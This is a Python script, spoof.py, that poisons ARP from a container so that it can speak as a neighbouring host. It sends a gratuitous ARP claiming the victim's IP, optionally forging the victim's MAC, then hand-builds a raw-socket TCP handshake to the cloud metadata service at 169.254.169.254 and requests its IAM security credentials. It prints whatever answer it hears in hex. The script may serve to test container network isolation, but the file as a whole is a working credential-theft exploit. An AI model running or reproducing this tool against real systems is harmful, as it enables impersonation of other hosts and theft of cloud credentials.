"""Speaks in a neighbour's name, with no more than Docker's default capabilities (NET_RAW).

spoof.py MODE VICTIM-IP VICTIM-MAC GATEWAY-IP: a whole handshake and a GET, over a raw socket.
MODE is the sender's hardware address: "own", an "invented" one, or the "victim"'s.
The last line says how far it came: "no connection", "reset", or "answer " and what was heard, in hex.
"""
import random
import socket
import struct
import sys
import time

from wire import gateway_mac, sender, wire

mode, victim, victim_mac, gateway = sys.argv[1:5]
METADATA = "169.254.169.254"
REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
SYN, RST, PSH, ACK = 2, 4, 8, 16

source = sender(mode, victim_mac)
wire.settimeout(0.1)
port = random.randint(20000, 60000)


def checksum(data):
    total = sum(struct.unpack("!%dH" % ((len(data) + 1) // 2), data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def claim_the_address():
    """Tells the gateway, and with the victim's own hardware address the bridge, that the address is here."""
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source + socket.inet_aton(victim) + door + socket.inet_aton(gateway)
    wire.send((b"\xff" * 6 if mode == "victim" else door) + source + b"\x08\x06" + arp)


def send(flags, sequence, acknowledged, data=b""):
    addresses = socket.inet_aton(victim) + socket.inet_aton(METADATA)
    tcp = struct.pack("!HHIIBBHHH", port, 80, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(addresses + struct.pack("!BBH", 0, 6, 20 + len(data)) + tcp + data)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), random.randint(1, 65535), 0x4000, 64, 6, 0) + addresses
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    wire.send(door + source + b"\x08\x00" + ip + tcp + data)


def hear(seconds):
    """The next TCP segment of our connection: flags, sequence, data."""
    end = time.time() + seconds
    while time.time() < end:
        try:
            frame = wire.recv(65535)
        except TimeoutError:
            continue
        if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:34] != socket.inet_aton(METADATA) + socket.inet_aton(victim):
            continue
        start = 14 + (frame[14] & 15) * 4
        _, to, sequence, _, offset, flags = struct.unpack("!HHIIBB", frame[start:start + 14])
        if to == port:
            return flags, sequence, frame[start + (offset >> 4) * 4:14 + struct.unpack("!H", frame[16:18])[0]]
    return None


door = gateway_mac(gateway)
start = random.randint(1, 2**31)
heard = None
for _ in range(5):
    claim_the_address()
    send(SYN, start, 0)
    heard = hear(0.5)
    if heard:
        break
if not heard:
    sys.exit(print("no connection"))
if heard[0] & RST:
    sys.exit(print("reset"))
expected, answer = heard[1] + 1, b""
send(ACK, start + 1, expected)
send(PSH | ACK, start + 1, expected, REQUEST)
for _ in range(12):
    claim_the_address()
    heard = hear(0.4)
    if heard and heard[1] == expected:
        answer += heard[2]
        expected += len(heard[2])
        send(ACK, start + 1 + len(REQUEST), expected)
print("answer", answer.hex())
